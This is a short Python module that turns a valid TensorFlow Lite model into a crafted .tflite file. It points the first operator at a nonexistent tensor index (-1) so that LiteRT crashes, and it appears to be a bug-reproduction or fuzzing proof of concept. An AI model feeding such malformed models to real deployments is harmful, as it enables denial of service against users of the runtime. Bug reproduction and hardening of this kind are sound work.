"""A .tflite file that makes LiteRT crash."""

import flatbuffers
from ai_edge_litert import schema_py_generated as schema


def crashing(content):
    """A valid flatbuffer whose first operator reads a tensor that is not there: LiteRT trusts it."""
    model = schema.ModelT.InitFromPackedBuf(content, 0)
    operator = model.subgraphs[0].operators[0]
    operator.inputs = [*operator.inputs[:-1], -1]
    builder = flatbuffers.Builder()
    builder.Finish(model.Pack(builder), b"TFL3")
    return bytes(builder.Output())
